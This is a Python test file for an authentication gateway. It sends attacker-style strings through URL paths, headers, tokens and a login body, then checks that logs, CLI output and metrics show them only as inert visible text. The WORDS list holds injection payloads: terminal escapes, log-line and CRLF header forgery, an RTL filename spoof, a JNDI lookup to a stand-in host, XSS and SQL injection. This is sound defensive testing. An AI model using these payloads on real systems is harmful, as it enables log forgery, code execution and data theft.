"""Words of an attacker: what he puts into paths, names and fields is told by logs, ledger and terminal as text."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator

import pytest
from gateway import Gateway, serving
from issuer import basic, bearer
from recorder import recording
from wires import TRUSTING, policy, request, somewhere, until

WORDS = [
    "\x1b[2J\x1b[1;31mroot",
    "a\n00:00:00  200  allowed  GET /  root",
    "a\r\nSet-Cookie: x=y",
    "a\tb\x00c\x07",
    "\u202egnp.exe",
    "\u2028line\u2029paragraph",
    "\x9b31mC1",
    "\u200bzero\ufeff",
    "%n%s{0}{self}${jndi:ldap://evil.test/a}",
    "<script>alert(1)</script>",
    "'; DROP TABLE event; --",
    "\U000e0001tag\U000e0041",
]
UNSEEN = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


@pytest.fixture(scope="module")
def gateway() -> Iterator[Gateway]:
    with recording() as application, serving(policy(TRUSTING), application.url) as running:
        yield running


def send(gateway: Gateway, word: str) -> list[str]:
    """A word in every place that is recorded. Returns: ids of the refusals."""
    escaped = "".join(f"%{octet:02x}" for octet in word.encode())
    octets = word.encode().decode("latin-1")
    login = json.dumps({"username": word, "password": "a wrong one"}).encode()
    kind = ("Content-Type", "application/json")
    asked = [
        request("GET", f"/mine/{escaped}", somewhere()),
        request("GET", f"/admin/x?q={escaped}", bearer("max", ["member"]), somewhere()),
        request("GET", "/admin/x", bearer(word, [word]), somewhere()),
        request("GET", "/admin/x", bearer("max", ["member"], jti=word, scope=escaped), somewhere()),
        request("GET", "/mine/x", bearer("max", [], iss=word), somewhere()),
        request("GET", "/mine/x", basic(word, "a wrong one"), somewhere()),
        request("GET", "/mine/x", ("X-API-Key", octets), somewhere()),
        request("GET", "/mine/x", ("User-Agent", octets), ("Referer", octets), ("Origin", octets), somewhere()),
        request("GET", "/mine/x", ("X-Forwarded-For", octets)),
        request("GET", "/mine/x", somewhere(), host=octets),
        request(octets, "/mine/x", somewhere()),
        request("GET", f"/mine/{octets}", somewhere()),
        request("POST", "/.doorward/login", kind, somewhere(), body=login),
    ]
    answers = [gateway.raw(one) for one in asked]
    assert all(answer.status in (0, 400, 401, 403, 404, 421) for answer in answers), [one.status for one in answers]
    assert not any(answer.all("set-cookie") for answer in answers)
    return [answer.one("x-request-id") for answer in answers if answer.all("x-request-id")]


def unseen(text: str) -> set[str]:
    """What of a text is not seen, or moves a cursor."""
    return {char for char in text if char != "\n" and unicodedata.category(char) in UNSEEN}


@pytest.mark.slow
@pytest.mark.parametrize("word", WORDS, ids=ascii)
def test_what_an_attacker_writes_is_told_as_text_and_makes_no_line_of_its_own(gateway: Gateway, word: str) -> None:
    ids = send(gateway, word)
    assert len(ids) > 6
    until(lambda: gateway.cli("explain", ids[-1]).returncode == 0)
    events = [json.loads(line) for line in gateway.cli("tail", "-n", "1000", "--json").stdout.splitlines()]
    assert set(ids) <= {event["id"] for event in events}
    shown = gateway.cli("tail", "-n", "1000", "-v")
    assert shown.returncode == 0
    # One refusal, one line; nothing in it but what can be seen.
    assert len(shown.stdout.splitlines()) == len(shown.stdout.split("\n")) - 1 == len(events)
    assert unseen(shown.stdout) == set()
    for name in ids[::5]:
        explained = gateway.cli("explain", name)
        assert explained.returncode in (0, 1), explained.stderr
        assert unseen(explained.stdout) == set(), ascii(explained.stdout)
    assert unseen(gateway.text) == set()
    assert "Traceback" not in gateway.text


def test_metrics_have_no_word_of_an_attacker(gateway: Gateway) -> None:
    for word in WORDS:
        send(gateway, word)
    text = gateway.ask("GET", "/metrics", control=True).body.decode()
    assert unseen(text) == set()
    assert not any(part in text for part in ("script", "DROP", "jndi", "evil", "gnp", "31m"))
    assert gateway.ask("GET", "/ready", control=True).status == 200
    (bugs,) = [line for line in text.splitlines() if line.startswith("doorward_bugs_total ")]
    assert bugs == "doorward_bugs_total 0"
